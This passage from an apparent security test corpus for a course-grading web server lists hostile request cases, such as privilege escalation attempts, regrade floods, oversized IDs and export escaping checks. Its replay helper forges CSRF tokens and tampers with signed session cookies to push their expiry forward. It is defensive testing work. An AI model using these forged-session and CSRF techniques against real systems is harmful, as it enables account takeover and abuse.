         json={"answers": {"17-08/example-1.d_k": 64}}, repeat=3, after=("nothing_stored",)),
    Case("page-submit-closed", "course", "POST", "/learn/exercise/17-08/example-1.d_k", S(409), who=None,
         page="mallory", csrf="own", form=(("answer", "64"),), after=("nothing_stored",)),
    Case("page-submit-not-open", "course", "POST", "/learn/exercise/17-08/example-2.params", S(404, 409), who=None,
         page="mallory", csrf="own", form=(("answer", "64"),), after=("nothing_stored",)),
    Case("page-submit-not-started", "course", "POST", "/learn/exercise/17-08/quiz-2", S(409), who=None,
         page="mallory", csrf="own", form=(("answer", "a"),), after=("nothing_stored", "not_started")),
    Case("code-not-open", "course", "POST", "/api/v1/code-submissions", S(409), form=(("problem", "17-08/code-mha"),),
         files=(("file", "mha.py", b"x = 1\n"),), after=("no_new_job",)),
    Case("page-code-not-open", "course", "POST", "/learn/code/17-08/code-mha", S(409), who=None, page="mallory",
         csrf="own", files=(("file", "mha.py", b"x = 1\n"),), form=(), after=("no_new_job",)),
    Case("exercise-not-open", "course", "GET", "/api/v1/exercises/17-08/example-2.params", S(409)),
    Case("exercise-not-started", "course", "GET", "/api/v1/exercises/17-08/quiz-2", S(409),
         after=("no_hidden_prompt",)),
    Case("exercises-list-hides-not-open", "course", "GET", "/api/v1/exercises", S(200), after=("no_hidden_prompt",)),
    Case("assessment-not-open-detail", "course", "GET", "/api/v1/assessments/future-hw", S(200),
         after=("no_hidden_prompt",)),
    Case("assessment-not-open-page", "course", "GET", "/learn/assessments/future-hw", S(200), who=None,
         page="mallory", after=("no_hidden_prompt",)),
    Case("exercise-page-not-open", "course", "GET", "/learn/exercise/17-08/example-2.params", S(404, 409), who=None,
         page="mallory"),
    Case("template-not-open", "course", "GET", "/learn/template/17-08/code-mha", S(404, 409), who=None,
         page="mallory", after=("no_template",)),
    Case("start-closed", "course", "POST", "/api/v1/assessments/closed-hw/start", S(409)),
    Case("start-not-open", "course", "POST", "/api/v1/assessments/future-hw/start", S(409)),
    Case("start-unknown", "course", "POST", "/api/v1/assessments/nope/start", S(404)),
    Case("extension-as-learner", "course", "POST", "/api/v1/assessments/closed-hw/extensions", S(403),
         json={"learner": "mallory", "due": "2999-01-01T00:00Z"}, after=("still_closed",)),
    Case("revoke-as-learner", "course", "DELETE", "/api/v1/assessments/closed-hw/extensions?learner=alice", S(403)),
    Case("release-as-learner", "course", "POST", "/api/v1/assessments/hidden-hw/release", S(403),
         after=("not_released",)),
    Case("view-as-post-as-prof", "course", "POST", "/staff/learners/alice/view/exercise/17-08/practice-1", S(403),
         who=None, page="prof", csrf="own", form=(("answer", "63"),), after=("alice_untouched",)),
    Case("view-as-start-as-prof", "course", "POST", "/staff/learners/alice/view/assessments/timed-quiz/start",
         S(403), who=None, page="prof", csrf="own", form=()),
    Case("view-as-an-instructor", "course", "GET", "/staff/learners/prof/view", S(404), who=None, page="prof"),
    Case("view-as-unknown", "course", "GET", "/staff/learners/nobody/view", S(404), who=None, page="prof"),
    # ------------------------------------------------------------ reviews and regrade requests
    Case("review-unknown-answer", "reviews", "POST", "/api/v1/review/nope", S(404), who="prof", json={"score": 0}),
    Case("review-answer-id-long", "reviews", "POST", "/api/v1/review/" + "a" * 5000, S(404, 414, 422), who="prof",
         json={"score": 0}),
    Case("review-form-unknown-answer", "reviews", "POST", "/staff/review/nope", S(404), who=None, page="prof",
         csrf="own", form=(("score", "0"),)),
    Case("regrade-request-unknown-answer", "reviews", "POST", "/api/v1/answers/nope/regrade-request", S(404),
         json={"message": "x"}),
    Case("regrade-form-unknown-answer", "reviews", "POST", "/learn/regrade/nope", S(404), who=None, page="mallory",
         csrf="own", form=(("message", "x"),)),
    Case("answer-unknown-request", "reviews", "POST", "/api/v1/regrade-requests/2147483647", S(404), who="prof",
         json={"response": "x"}),
    Case("regrade-request-flood", "reviews", "POST", "/api/v1/answers/{mallory_flood}/regrade-request", S(409),
         json={"message": "look again"}, repeat=30, after=("one_open_request",)),
    Case("regrade-request-burst", "reviews", "POST", "/api/v1/answers/{mallory_burst}/regrade-request", S(0),
         action="regrade_burst"),
    Case("regrade-request-twice-open", "reviews", "POST", "/api/v1/answers/{mallory_answer}/regrade-request", S(409),
         json={"message": "again"}),
    Case("regrade-request-html-on-queue", "reviews", "GET", "/staff/review", S(200), who=None, page="prof",
         after=("escaped",)),
    # ------------------------------------------------------------ exports and pages (NAMES)
    Case("anonymous-queue-page", "exports", "GET", "/staff/review?anonymous=1", S(200), who=None, page="prof",
         after=("no_logins", "escaped")),
    Case("anonymous-queue-api", "exports", "GET", "/api/v1/review?anonymous=true", S(200), who="prof",
         after=("no_logins",)),
    Case("regrade-message-in-api", "exports", "GET", "/api/v1/review", S(200), who="prof",
         after=("json_message_kept",)),
    *(Case(f"csv-{i}", "exports", "GET", path, S(200), who="prof", after=("csv_neutral",))
      for i, path in enumerate(["/api/v1/gradebook?format=csv", "/api/v1/assessments/open-hw/gradebook?format=csv",
                                "/api/v1/assessments/open-hw/gradebook?format=csv&problems=true",
                                "/api/v1/assessments/hidden-hw/gradebook?format=csv"])),
    *(Case(f"csv-page-{i}", "exports", "GET", path, S(200), who=None, page="prof", after=("csv_neutral",))
      for i, path in enumerate(["/staff/gradebook.csv", "/staff/assessments/open-hw/gradebook.csv",
                                "/staff/assessments/closed-hw/gradebook.csv?problems=true"])),
    *(Case(f"html-page-{i}", "exports", "GET", path, S(200), who=None, page="prof", after=("escaped_name",))
      for i, path in enumerate(["/staff", "/staff/assessments/open-hw", "/staff/learners/peggy",
                                "/staff/learners/peggy/view"])),
]

# wrong tokens come from an address of their own: once failed attempts are throttled per address,
# the honest learner and the other families (from 127.0.0.1) are not the ones slowed down
CASES = [replace(c, source="127.0.0.8") if c.family == "tokens" and c.source == "127.0.0.1" else c for c in CASES]
FAMILIES = list(dict.fromkeys(c.family for c in CASES))


def format_case(text: str, ctx: dict[str, str]) -> str:
    for k, v in ctx.items():
        text = text.replace("{" + k + "}", v)
    return text


def raw_status(port: int, data: bytes, source: str = "127.0.0.1", timeout: float = 10.0) -> int:
    """Send bytes on a fresh connection; the answer's status, 0 where it closed without one."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout, source_address=(source, 0)) as s:
        try:
            s.sendall(data)
        except OSError:
            pass
        buf = b""
        deadline = time.monotonic() + timeout
        while b"\r\n" not in buf and time.monotonic() < deadline:
            try:
                chunk = s.recv(4096)
            except OSError:
                break
            if not chunk:
                break
            buf += chunk
    first = buf.split(b"\r\n", 1)[0].split()
    return int(first[1]) if len(first) > 1 and first[1].isdigit() else 0


def replay(client: Any, case: Case, ctx: dict[str, str], tokens: dict[str, str], port: int,
           browsers: dict[str, Any] | None = None, source: str | None = None) -> Any:
    """Send one case (``repeat`` times) with an httpx client of the case's ``source``; the last
    httpx.Response (or the status where the case is raw bytes; sent from ``source``, default the
    case's)."""
    if case.raw is not None:
        return raw_status(port, case.raw, source or case.source)
    path = format_case(case.path, ctx)
    headers = dict(case.headers)
    if case.who is not None and case.page is None:
        headers["Authorization"] = case.who[7:] if case.who.startswith("header:") else f"Bearer {tokens[case.who]}"
    cookies: dict[str, str] = {}
    form = dict(case.form or ())
    if case.page is not None:
        assert browsers is not None
        b = browsers[case.page]
        cookies = dict(b["cookies"])
        csrf = {"own": b["csrf"], "none": None, "wrong": "0" * 40, "planted": browsers["other"]["csrf"]}.get(
            case.csrf or "none", b["csrf"])
        if case.csrf == "planted":
            cookies["grader_csrf"] = browsers["other"]["cookies"]["grader_csrf"]
        if case.csrf == "extend":       # push the signed expiry (or change a server-side session's id)
            value = cookies["grader_session"]
            parts = value.split(".")
            if len(parts) == 3 and parts[1].isdigit():
                cookies["grader_session"] = f"{parts[0]}.{int(parts[1]) + 10**6}.{parts[2]}"
            else:
                cookies["grader_session"] = value[:-1] + ("A" if value[-1:] != "A" else "B")
        if case.csrf == "logged-out":
            cookies = dict(b["saved"])
        if csrf is not None and case.form is not None:
            form["csrf"] = csrf
    if cookies:
        headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    kw: dict[str, Any] = {"headers": headers}
    if case.json is not NO_BODY:
        kw["json"] = case.json
    if case.content is not None:
        if case.content.startswith(b"chunked:"):
            data = case.content[8:]
            kw["content"] = iter([data[i:i + 65536] for i in range(0, len(data), 65536)])
        else:
            kw["content"] = case.content
    if case.files is not None:
        kw["files"] = [(f, (n, c)) for f, n, c in case.files]
        kw["data"] = form
    elif case.form is not None:
        kw["data"] = form
    r = None
    for _ in range(case.repeat):
        if case.files is not None:   # a file object is read once
            kw["files"] = [(f, (n, c)) for f, n, c in case.files]
        client.cookies.clear()           # each request is its own: nothing kept from an earlier answer
        r = client.request(case.method, path, **kw)
    client.cookies.clear()
    return r


def all_cases() -> list[Case]:
    return list(CASES)


BENCH_CONTEXT = {"alice_sub", "alice_answer", "alice_job"}    # the placeholders bench_serve.py fills


def attack_cases() -> list[Case]:
    """The cases benchmarks/bench_serve.py's attackers loop over: all but the browser ones (they
    need signed-in sessions), the slow-client actions, the repeated ones and the uploads over
    1 MB (those measure the network, not the server); nor those that need what only this
    corpus's harness makes (its course: ``course``; the learners of NAMES and the instructor's
    exports: ``exports``; a placeholder the bench does not fill: ``{alice_request}``, ...)."""
    import re
    return [c for c in CASES if c.action is None and c.repeat == 1 and c.page is None
            and c.family not in ("course", "exports")
            and set(re.findall(r"\{(\w+)\}", c.path)) <= BENCH_CONTEXT
            and not (c.files and any(len(x[2]) > 1 << 20 for x in c.files))
            and not (c.content and len(c.content) > 1 << 20)]


__all__ = ["Case", "CASES", "FAMILIES", "HONEST", "HONEST_SCORE", "COURSE", "NAMES", "XSS", "ALICE_SECRET",
           "ALICE_REVIEW", "FORMULA_START", "replay", "raw_status", "attack_cases"]
